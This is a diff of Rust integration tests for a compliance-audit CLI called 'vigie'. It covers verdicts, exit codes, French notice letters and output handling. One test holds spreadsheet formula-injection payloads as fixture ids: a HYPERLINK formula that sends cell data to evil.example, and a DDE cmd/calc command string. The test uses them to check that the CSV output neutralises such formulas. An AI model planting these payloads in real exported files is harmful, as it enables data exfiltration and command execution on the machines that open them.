@@ -157,6 +157,81 @@ fn a_corpus_with_no_readable_record_is_exit_2() {
     );
 }
 
+/// A corpus of which no record could be read has no verdict, and no output may say it
+/// complies: the JSON report keeps the verdict SPEC §3 works out from the findings (IN001s carry
+/// no penalty: `compliant`), beside `conclusive: false`; the text summary gives no verdict; the
+/// notice says the audit could not be carried out, with the count of what could not be read,
+/// not that it found no breach.
+#[test]
+fn a_corpus_with_no_readable_record_has_no_verdict_in_any_output() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = corpus(
+        dir.path(),
+        &["{not json".into(), "{\"text\": \"no id\"}".into()],
+    );
+    let out = |format: &str| {
+        let out = vigie_on(&c, cc_detail())
+            .args([
+                "--as-of",
+                "2026-11-22T12:00:00Z",
+                "--quiet",
+                "--report",
+                format,
+            ])
+            .args(["--reuser", "Exemple SAS"])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(2), "{format}");
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let v: Value = serde_json::from_str(&out("json")).unwrap();
+    assert_eq!(v["summary"]["verdict"], "compliant");
+    assert_eq!(v["summary"]["conclusive"], false);
+    let jsonl = out("jsonl");
+    let last: Value = serde_json::from_str(jsonl.lines().last().unwrap()).unwrap();
+    assert_eq!(last["summary"]["conclusive"], false);
+    let text = out("text");
+    assert!(
+        text.starts_with(
+            "vigie: no verdict — no record of the corpus could be read (2 unreadable lines or \
+             files, IN001)\n"
+        ),
+        "{text}"
+    );
+    assert!(!text.contains("compliant"), "{text}");
+    let notice = out("notice").replace('\u{202f}', " ");
+    assert!(
+        notice.starts_with("# Projet de lettre — audit de conformité"),
+        "{notice}"
+    );
+    assert!(notice.contains("**Objet :** Audit de conformité aux conditions générales de réutilisation des décisions de justice diffusées en open data — audit impossible, aucun enregistrement lisible\n"), "{notice}");
+    assert!(notice.contains("Un audit de votre base, arrêté au 22 novembre 2026, n'a pu être mené à bien : aucun de ses enregistrements n'a pu être lu (2 lignes ou fichiers illisibles, détaillés ci-après). Faute d'enregistrement examiné, cet audit ne permet de constater ni le respect ni la méconnaissance des conditions de réutilisation qui vous sont applicables."), "{notice}");
+    assert!(
+        notice.contains("\n## 1. Entrées illisibles de la base (2 constats)\n"),
+        "{notice}"
+    );
+    assert!(
+        notice.contains("- **IN001** — enregistrement illisible — 2 constats"),
+        "{notice}"
+    );
+    for said in [
+        "absence de manquement",
+        "aucun manquement",
+        "Mise en demeure",
+        "## 2.",
+    ] {
+        assert!(!notice.contains(said), "{said}: {notice}");
+    }
+    // One readable record is enough for a verdict, and the letter to say what it found.
+    std::fs::write(&c, format!("{{not json\n{}\n", clean("a"))).unwrap();
+    let (code, v) = run_json(&c, &[]);
+    assert_eq!(code, 0);
+    assert_eq!(v["summary"]["conclusive"], true);
+    let notice = report_of(&c, &cc_detail(), "notice", &[]).replace('\u{202f}', " ");
+    assert!(notice.contains("— absence de manquement"), "{notice}");
+    assert!(notice.contains("a porté sur 1 enregistrement (1 rapproché d'une décision de la source officielle ; 1 illisible)."), "{notice}");
+}
+
 #[test]
 fn breaches_exit_1_and_fail_on_moves_the_threshold() {
     let dir = tempfile::tempdir().unwrap();
@@ -997,34 +1072,6 @@ fn records_sharing_a_line_are_counted_apart() {
     assert_eq!(notice(&one_line), notice(&laid_out));
 }
 
-// A reader that goes away (`vigie … --report json | head -c 10`) is no error of the audit: the
-// exit status is the findings' in every format, not 2.
-#[test]
-fn a_closed_output_pipe_keeps_the_audits_exit_status() {
-    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
-    let demo = root.join("assets/demo");
-    let bin = assert_cmd::cargo::cargo_bin("vigie");
-    for format in ["json", "jsonl", "csv", "text", "notice"] {
-        let mut child = demo_audit(&demo.join("corpus.jsonl"), format)
-            .stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped())
-            .spawn()
-            .unwrap();
-        // The read end closed before anything is written.
-        drop(child.stdout.take());
-        let out = child.wait_with_output().unwrap();
-        assert_eq!(out.status.code(), Some(1), "{format}: {out:?}");
-        assert!(out.stderr.is_empty(), "{format}: {out:?}");
-    }
-    let mut child = std::process::Command::new(&bin)
-        .arg("rules")
-        .stdout(std::process::Stdio::piped())
-        .spawn()
-        .unwrap();
-    drop(child.stdout.take());
-    assert_eq!(child.wait().unwrap().code(), Some(0));
-}
-
 // The report never replaces an input; a notice gives at least a day to comply.
 #[test]
 fn an_output_that_is_an_input_or_a_notice_of_no_days_is_exit_2() {
@@ -1685,4 +1732,311 @@ fn csv_keeps_the_ids_as_read() {
             .any(|r| &r[id] == "esc␛[31m" && &r[sid] == "�sid"),
         "{rows:?}"
     );
+}
+
+// Spreadsheets trim leading white space on import (Google Sheets always, LibreOffice Calc with
+// "Trim spaces"): a cell whose first character after spaces, no-break spaces or other Unicode
+// blanks starts a formula is prefixed with `'` too, the id cells included, and an id that quotes
+// such an id in its message or excerpt (IN002) as well.
+#[test]
+fn csv_neutralises_a_formula_after_leading_white_space() {
+    let dir = tempfile::tempdir().unwrap();
+    let ids = [
+        "  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
+        "\u{3000}+33",
+        "=plain",
+        "  plain",
+    ];
+    let mut lines: Vec<String> = ids
+        .iter()
+        .map(|id| json!({"id": id, "text": "x"}).to_string())
+        .collect();
+    // A duplicate of the first: IN002 quotes its id.
+    lines.push(json!({"id": ids[0], "text": "y"}).to_string());
+    let path = corpus(dir.path(), &lines);
+    let out = vigie()
+        .arg(&path)
+        .args([
+            "--as-of",
+            "2026-11-22T12:00:00Z",
+            "--report",
+            "csv",
+            "--quiet",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let mut rd = csv::Reader::from_reader(&out.stdout[..]);
+    let header = rd.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (rule, id) = (col("rule"), col("record_id"));
+    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
+    let ids_shown: Vec<&str> = rows
+        .iter()
+        .filter(|r| &r[rule] == "INT007")
+        .map(|r| &r[id])
+        .collect();
+    assert_eq!(
+        ids_shown,
+        [
+            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "'\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
+            "'\u{3000}+33",
+            "'=plain",
+            "  plain",
+            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        ]
+    );
+    // No cell of the file, trimmed as a spreadsheet trims it, starts a formula.
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['\t', '\r'])
+                    && !cell.trim_start().starts_with(['=', '+', '-', '@']),
+                "{cell:?}"
+            );
+        }
+    }
+}
+
+// A report to standard output that cannot be written whole is an output that cannot be written
+// (exit 2, README), whatever the audit found: a reader that closed the pipe (`| head`) got a
+// report cut short, and a full disk none. The message names standard output. `vigie rules`,
+// which carries no verdict, may still be cut by `| head` without a word.
+#[test]
+fn a_report_to_standard_output_that_cannot_be_written_is_exit_2() {
+    use std::process::Stdio;
+    let dir = tempfile::tempdir().unwrap();
+    // Findings enough to fill a pipe's buffer (64 KiB on Linux) many times over in each
+    // format tried: the writes fail however late the pipe is closed. (The text summary and
+    // the notice, shorter, go through the same writing.)
+    let lines: Vec<String> = (0..2000)
+        .map(|i| json!({"id": format!("r{i}"), "text": "x"}).to_string())
+        .collect();
+    let c = corpus(dir.path(), &lines);
+    let bin = assert_cmd::cargo::cargo_bin("vigie");
+    for format in ["jsonl", "json", "csv"] {
+        let mut child = std::process::Command::new(&bin)
+            .arg(&c)
+            .args(["--report", format, "--fail-on", "never", "--quiet"])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        // The reader goes away before reading anything.
+        drop(child.stdout.take());
+        let out = child.wait_with_output().unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{format}: {err}");
+        assert!(
+            err.contains(
+                "vigie: cannot write the report to standard output: its reader closed the pipe \
+                 before the end (broken pipe), so the report is incomplete"
+            ),
+            "{format}: {err}"
+        );
+    }
+    #[cfg(target_os = "linux")]
+    {
+        let full = std::fs::OpenOptions::new()
+            .write(true)
+            .open("/dev/full")
+            .unwrap();
+        let out = std::process::Command::new(&bin)
+            .arg(&c)
+            .args(["--report", "jsonl", "--fail-on", "never", "--quiet"])
+            .stdout(full)
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{err}");
+        assert!(
+            err.contains(
+                "vigie: cannot write the report to standard output; the report is incomplete: "
+            ) && err.contains("(os error 28)"),
+            "{err}"
+        );
+    }
+    // `vigie rules | head`: nothing is at stake, the reader had what it wanted.
+    let mut child = std::process::Command::new(&bin)
+        .arg("rules")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    assert!(
+        out.stderr.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// A run in `dir` with `args` and the JSON report at a fixed time on stdout: its status, the
+/// report and stderr.
+fn run_in(dir: &Path, args: &[&str]) -> (i32, Value, String) {
+    let out = vigie()
+        .current_dir(dir)
+        .args(args)
+        .arg("--reference")
+        .arg(cc_detail())
+        .args(HEADLESS_JSON)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    let v: Value =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {stderr}"));
+    (out.status.code().unwrap(), v, stderr)
+}
+
+// The same file given twice, by two names or also through the folder that holds it, is one
+// file: read once (its records counted once, none the duplicate of itself), and said on stderr.
+#[test]
+fn a_corpus_file_given_twice_is_read_once() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("sub")).unwrap();
+    corpus(
+        dir.path(),
+        &[clean("a").to_string(), clean("b").to_string()],
+    );
+    std::fs::write(
+        dir.path().join("sub/more.jsonl"),
+        clean("c").to_string() + "\n",
+    )
+    .unwrap();
+    for (args, told) in [
+        (
+            &["corpus.jsonl", "./corpus.jsonl"][..],
+            "1 corpus input given more than once was read once:\n  ./corpus.jsonl: already read through corpus.jsonl\n",
+        ),
+        (
+            &["corpus.jsonl", "."],
+            "1 corpus input given more than once was read once:\n  corpus.jsonl: already read through ./corpus.jsonl\n",
+        ),
+        (
+            &["sub", ".", "sub/more.jsonl"],
+            "2 corpus inputs given more than once were read once:\n  sub: already read through .\n  sub/more.jsonl: already read through ./sub/more.jsonl\n",
+        ),
+    ] {
+        let (code, v, stderr) = run_in(dir.path(), args);
+        let records = if args.contains(&".") { 3 } else { 2 };
+        assert_eq!(code, 0, "{args:?}: {stderr}");
+        assert_eq!(v["audit"]["records"], records, "{args:?}");
+        assert_eq!(v["summary"]["findings"], 0, "{args:?}: {}", v["findings"]);
+        assert!(stderr.contains(told), "{args:?}: {stderr}");
+    }
+}
+
+// Which record of an id is its first (IN002 on the others) and every fingerprint do not depend
+// on the order the command line gives the files in: they are read in the order of their paths.
+#[test]
+fn the_order_of_the_corpus_arguments_changes_no_finding() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut other = clean("a");
+    other["text"] = json!("y");
+    std::fs::write(dir.path().join("a.jsonl"), clean("a").to_string() + "\n").unwrap();
+    std::fs::write(dir.path().join("b.jsonl"), other.to_string() + "\n").unwrap();
+    let (_, ab, _) = run_in(dir.path(), &["a.jsonl", "b.jsonl"]);
+    let (_, ba, _) = run_in(dir.path(), &["b.jsonl", "a.jsonl"]);
+    assert_eq!(ab["findings"], ba["findings"]);
+    let in002: Vec<&Value> = ab["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "IN002")
+        .collect();
+    assert_eq!(in002.len(), 1, "{}", ab["findings"]);
+    assert_eq!(in002[0]["record"]["file"], "b.jsonl");
+    // The command line is reported as given.
+    assert_eq!(ba["audit"]["corpus"], json!(["b.jsonl", "a.jsonl"]));
+}
+
+// A nightly job that writes its report inside the corpus folder does not read it back the next
+// night (each of its lines would be an IN001, more every night): nor any other report or
+// waivers file of vigie's that the folder holds. They are listed, and said on stderr. An output
+// inside a corpus folder that is a file of records is not replaced.
+#[test]
+fn reports_written_inside_a_corpus_folder_are_not_read_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let folder = dir.path().join("corpus");
+    std::fs::create_dir(&folder).unwrap();
+    corpus(&folder, &[clean("a").to_string()]);
+    let night = |args: &[&str]| {
+        let out = vigie()
+            .current_dir(dir.path())
+            .arg("corpus")
+            .arg("--reference")
+            .arg(cc_detail())
+            .args(["--as-of", "2026-11-22T12:00:00Z", "--quiet"])
+            .args(args)
+            .output()
+            .unwrap();
+        (
+            out.status.code().unwrap(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+    let last_line = |name: &str| -> Value {
+        let text = std::fs::read_to_string(dir.path().join(name)).unwrap();
+        serde_json::from_str(text.lines().last().unwrap()).unwrap()
+    };
+    for n in 1..=3 {
+        let (code, stderr) = night(&["--report", "jsonl", "-o", "corpus/report.jsonl"]);
+        assert_eq!(code, 0, "night {n}: {stderr}");
+        let last = last_line("corpus/report.jsonl");
+        assert_eq!(last["audit"]["records"], 1, "night {n}");
+        assert_eq!(last["audit"]["unreadable_records"], 0, "night {n}");
+        assert_eq!(last["summary"]["findings"], 0, "night {n}");
+        let skipped = if n == 1 {
+            json!([])
+        } else {
+            json!(["corpus/report.jsonl"])
+        };
+        assert_eq!(last["audit"]["skipped_vigie_files"], skipped, "night {n}");
+    }
+    // Reports under other names, a JSON one and one of JSON Lines, and a waivers file.
+    let (code, _) = night(&["-o", "corpus/2026-11-21.json"]);
+    assert_eq!(code, 0);
+    std::fs::write(
+        folder.join("waivers.json"),
+        "{\n  \"9f2c41d07a3b5e11\": {\n    \"status\": \"reviewed\",\n    \"note\": \"\",\n    \"at\": \"\"\n  }\n}\n",
+    )
+    .unwrap();
+    let (code, stderr) = night(&["--report", "json", "-o", "corpus/tonight.json"]);
+    assert_eq!(code, 0, "{stderr}");
+    let v: Value =
+        serde_json::from_str(&std::fs::read_to_string(folder.join("tonight.json")).unwrap())
+            .unwrap();
+    assert_eq!(v["audit"]["records"], 1);
+    assert_eq!(v["audit"]["unreadable_records"], 0);
+    assert_eq!(
+        v["audit"]["skipped_vigie_files"],
+        json!([
+            "corpus/2026-11-21.json",
+            "corpus/report.jsonl",
+            "corpus/waivers.json"
+        ])
+    );
+    assert!(
+        stderr.contains(
+            "vigie: warning: 3 files of the corpus folders were written by vigie (a report or a \
+             waivers file) and were not read as records:\n  corpus/2026-11-21.json\n"
+        ),
+        "{stderr}"
+    );
+    // A file of records in the folder is no output: refused before the audit, and kept.
+    let before = std::fs::read(folder.join("corpus.jsonl")).unwrap();
+    let (code, stderr) = night(&["--report", "jsonl", "-o", "corpus/corpus.jsonl"]);
+    assert_eq!(code, 2);
+    assert!(
+        stderr.contains(
+            "vigie: corpus/corpus.jsonl: the output is a file of the corpus folder corpus, whose \
+             records the audit reads, and not a report of vigie's; the report would replace it"
+        ),
+        "{stderr}"
+    );
+    assert_eq!(std::fs::read(folder.join("corpus.jsonl")).unwrap(), before);
 }
